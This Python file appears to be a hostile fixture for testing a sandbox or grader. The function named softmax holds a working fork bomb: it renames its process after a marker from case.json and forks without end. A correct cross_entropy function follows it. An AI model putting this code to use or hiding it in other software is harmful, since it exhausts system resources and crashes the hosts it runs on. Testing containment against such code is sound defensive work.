"""Hostile: a fork bomb. Every process forks forever; failures (EAGAIN) are ignored."""
import ctypes
import json
import os

import numpy as np


def _marker():
    try:
        with open("case.json") as f:
            return json.load(f)["marker"]
    except (OSError, ValueError, KeyError):
        return "forkbomb"


def softmax(o):
    # name every process after the marker (inherited by fork) so that the test can look for survivors
    ctypes.CDLL(None).prctl(15, _marker().encode()[:15], 0, 0, 0)  # PR_SET_NAME
    while True:
        try:
            os.fork()
        except OSError:
            pass


# --- correct, untouched by the attack: the checks after the attack still run and pass ------------
def cross_entropy(o, t):
    o = np.asarray(o, dtype=np.float64)
    t = np.asarray(t).astype(np.int64).reshape(-1)
    m = o.max(axis=1, keepdims=True)
    lse = m[:, 0] + np.log(np.exp(o - m).sum(axis=1))
    return float(np.mean(lse - o[np.arange(len(t)), t]))
